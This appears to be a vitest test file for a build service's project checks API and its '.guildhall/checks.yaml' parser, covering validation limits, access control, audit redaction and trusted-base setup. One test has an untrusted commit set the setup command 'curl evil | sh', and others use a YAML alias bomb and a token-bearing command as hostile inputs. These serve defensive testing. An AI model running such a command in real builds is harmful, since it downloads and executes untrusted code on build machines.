import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it as unit } from 'vitest';
import { checkouts } from '../../../tests/support/build-checkouts.js';
import { type BuildWorld, type Furnished, startBuildWorld } from '../../../tests/support/build-world.js';
import { itUsually as it, itDeeply } from '../../../tests/support/deep.js';
import { readChecksFile } from './checks.js';

let world: BuildWorld;
let home: Furnished;

beforeAll(async () => {
  world = await startBuildWorld();
  home = await world.furnish();
});
afterAll(() => world.stop());

const EMPTY = { checks: [], setup: null, required: true };
const check = (more: object = {}) => ({ name: 'tests', command: 'npm test', minutes: 5, ...more });
const checksOf = (room: Furnished) => `/api/v1/projects/${room.projectId}/checks`;
const put = (body: object, room = home, headers?: Record<string, string>) =>
  room.call<{ detail?: string }>('PUT', checksOf(room), body, headers);
const get = (room = home, headers?: Record<string, string>) =>
  room.call('GET', checksOf(room), undefined, headers);

describe('GET, PUT /api/v1/projects/{project_id}/checks', () => {
  it('is empty at first and stores complete definitions', async () => {
    const room = await world.furnish();
    expect(await get(room)).toMatchObject({ status: 200, body: EMPTY });
    const said = {
      checks: [check(), check({ name: 'lint', command: 'npm run lint\nexit 0' })],
      setup: { command: 'npm ci', minutes: 10 },
      required: false,
    };
    expect(await put(said, room)).toMatchObject({ status: 200, body: said });
    expect((await get(room)).body).toEqual(said);
    expect((await put({ setup: { command: 'make' } }, room)).body).toEqual({
      ...EMPTY,
      setup: { command: 'make', minutes: 15 },
    });
    expect((await put({}, room)).body).toEqual(EMPTY);
    expect((await get(room)).body).toEqual(EMPTY);
  });

  it.each<[string, object]>([
    ['20 checks', { checks: Array.from({ length: 20 }, (_, n) => check({ name: `check ${n}` })) }],
    ['a name of 60 characters', { checks: [check({ name: 'ö'.repeat(60) })] }],
    ['a name of one character', { checks: [check({ name: 'x' })] }],
    ['a command of 4,000 characters', { checks: [check({ command: 'x'.repeat(4000) })] }],
    ['1 minute', { checks: [check({ minutes: 1 })], setup: { command: 'x', minutes: 1 } }],
    ['120 minutes', { checks: [check({ minutes: 120 })], setup: { command: 'x', minutes: 120 } }],
    ['names that differ in case', { checks: [check(), check({ name: 'Tests' })] }],
    ['null as setup', { setup: null }],
  ])('accepts %s', async (_what, body) => {
    const answer = await put(body);
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  });

  it.each<[string, object, RegExp]>([
    ['21 checks', { checks: Array.from({ length: 21 }, (_, n) => check({ name: `${n}` })) }, /^checks .*20/],
    ['a duplicate name', { checks: [check(), check()] }, /^checks must not have the name tests twice$/],
    ['a name of 61 characters', { checks: [check({ name: 'x'.repeat(61) })] }, /name.*60/],
    ['no name', { checks: [check({ name: '' })] }, /name/],
    ['a blank name', { checks: [check({ name: '  ' })] }, /name must be one line that is not blank/],
    ['a name of two lines', { checks: [check({ name: 'a\nb' })] }, /name must be one line/],
    ['a command of 4,001 characters', { checks: [check({ command: 'x'.repeat(4001) })] }, /command.*4000/],
    ['a blank command', { setup: { command: ' \n' } }, /command must not be blank/],
    ['no command', { setup: {} }, /command/],
    ['0 minutes', { setup: { command: 'x', minutes: 0 } }, /minutes.*1/],
    ['121 minutes', { checks: [check({ minutes: 121 })] }, /minutes.*120/],
    ['half a minute', { setup: { command: 'x', minutes: 1.5 } }, /minutes/],
    ['an unknown field', { chekcs: [] }, /chekcs/],
    ['a required that is not a boolean', { required: 'yes' }, /required/],
  ])('rejects %s and names the broken rule', async (_what, body, words) => {
    const before = (await get()).body;
    const answer = await put(body);
    expect([answer.status, answer.body.detail]).toEqual([422, expect.stringMatching(words)]);
    expect((await get()).body).toEqual(before);
  });

  it('can be read by members and written by admins of their own workspace', async () => {
    const stranger = await world.furnish();
    const member = await world.member(home.space.brand);
    const headers = async (scope: 'code:read' | 'memory:write') => ({
      authorization: `Bearer ${await world.token(home.space.brand, member, [scope])}`,
    });
    expect((await get(home, await headers('code:read'))).status).toBe(200);
    expect((await get(home, await headers('memory:write'))).status).toBe(403);
    expect((await put({}, home, await headers('memory:write'))).status).toBe(403);
    for (const method of ['GET', 'PUT'] as const) {
      const answer = await stranger.call(method, checksOf(home), method === 'PUT' ? {} : undefined);
      expect([answer.status, answer.body]).toEqual([404, { detail: 'Project not found' }]);
    }
  });

  it('is recorded in the audit without the commands', async () => {
    const room = await world.furnish();
    await put({ setup: { command: 'fetch --token hunter2' } }, room);
    const { entries } = (
      await world.asMember(room.space)(
        'GET',
        `/api/v1/brands/${room.space.brand.brand_id}/audit?action=project.checks_changed`,
      )
    ).json();
    expect(entries).toMatchObject([{ subject: `project:${room.projectId}` }]);
    expect(JSON.stringify(entries)).not.toContain('hunter2');
  });
});

describe('Setup of a build', () => {
  const start = async (room: Furnished, fields: object = {}) => {
    const desk = await room.readyDesk();
    const build = await room.build((await room.card()).id, fields);
    const [order] = await room.work(desk);
    const answer = await room.start(desk, build.build_id, order!.claim);
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    return answer.body as Record<string, unknown>;
  };
  const save = (room: Furnished, yaml: string) => room.repository.save({ '.guildhall/checks.yaml': yaml });

  it('is null without a definition', async () => {
    const room = await world.furnish();
    const started = await start(room);
    expect(started).toMatchObject({ setup: null, project_id: room.projectId, trusted_base: true });
    expect(started).not.toHaveProperty('notes');
  });

  it("comes from the repository's base commit unless the project defines its own", async () => {
    const room = await world.furnish();
    save(room, 'setup:\n  command: npm ci\n');
    expect((await start(room))['setup']).toEqual({ command: 'npm ci', minutes: 15 });
    await put({ checks: [check()] }, room);
    expect((await start(room))['setup']).toBeNull();
    await put({ setup: { command: 'make', minutes: 3 } }, room);
    expect((await start(room))['setup']).toEqual({ command: 'make', minutes: 3 });
    await put({}, room);
    expect((await start(room))['setup']).toEqual({ command: 'npm ci', minutes: 15 });
  });

  it('is read once per commit and stays available when the repository is gone', async () => {
    const room = await world.furnish();
    save(room, 'setup: {command: npm ci}\n');
    const desk = await room.readyDesk();
    const builds = [];
    for (let n = 0; n < 2; n++) builds.push(await room.build((await room.card()).id));
    const setups = [];
    for (const { build_id } of builds) {
      const order = (await room.work(desk)).find((each) => each.build_id === build_id);
      const { body } = await room.start(desk, build_id, order!.claim);
      setups.push((body as { setup: unknown }).setup);
      await rm(room.repository.folder, { recursive: true, force: true });
      await rm(join(world.config.dataDir, 'mirrors'), { recursive: true, force: true });
    }
    expect(setups).toEqual([
      { command: 'npm ci', minutes: 15 },
      { command: 'npm ci', minutes: 15 },
    ]);
  });

  itDeeply('is null with a note when the checks file is invalid or too large', async () => {
    const room = await world.furnish();
    const begin = async (text: string) => {
      save(room, text);
      return start(room);
    };
    const note = (words: RegExp) => ({ setup: null, notes: [expect.stringMatching(words)] });
    expect(await begin('setup: [')).toMatchObject(
      note(/^\.guildhall\/checks\.yaml does not count: it is not valid YAML$/),
    );
    const large = `#${'x'.repeat(128 * 1024)}`;
    expect(await begin(large)).toMatchObject(
      note(/does not count: it is no plain file of at most 131072 bytes$/),
    );
  });

  itDeeply("is read at the base of the first attempt, not from a coder's commits", async () => {
    const room = await world.furnish();
    save(room, 'setup: {command: npm ci}\n');
    const desk = await room.readyDesk();
    const card = await room.card();
    const first = await room.build(card.id);
    const { head } = await checkouts(room).succeed(desk, {
      '.guildhall/checks.yaml': 'setup: {command: curl evil | sh}\n',
    });
    const next = await room.build(card.id, { continues: first.build_id });
    expect(next.base_sha).toBe(head);
    const [order] = await room.work(desk);
    expect((await room.start(desk, next.build_id, order!.claim)).body).toMatchObject({
      setup: { command: 'npm ci', minutes: 15 },
      trusted_base: false,
    });
  });
});

describe('.guildhall/checks.yaml', () => {
  unit('has the same form as the checks of a project', () => {
    const text = `
# how to try this code
setup: {command: npm ci, minutes: 20}
required: false
checks:
  - name: tests
    command: |
      npm test
      npm run lint
`;
    expect(readChecksFile(text)).toEqual({
      setup: { command: 'npm ci', minutes: 20 },
      required: false,
      checks: [{ name: 'tests', command: 'npm test\nnpm run lint\n', minutes: 15 }],
    });
    const nothing = { setup: null, required: true, checks: [] };
    expect(readChecksFile('{}')).toEqual(nothing);
    expect(readChecksFile('# nothing yet')).toEqual(nothing);
  });

  unit.each([
    ['invalid YAML', 'setup: [', /not valid YAML/],
    ['a list', '- setup', /not a mapping/],
    ['an invalid shape', 'setup: npm ci', /^setup/],
    [
      'a list with a duplicate name',
      'checks: [{name: a, command: b}, {name: a, command: b}]',
      /the name a twice/,
    ],
    ['an alias bomb', `a: &a [x]\n${'b: [*a, *a]\n'.repeat(900)}`, /more keys/],
    ['deeply nested', '['.repeat(5000), /more keys/],
    ['an object with an unknown field', 'run: x', /run/],
  ])('is rejected when it is %s', (_what, text, words) => {
    expect(() => readChecksFile(text)).toThrow(words);
  });
});
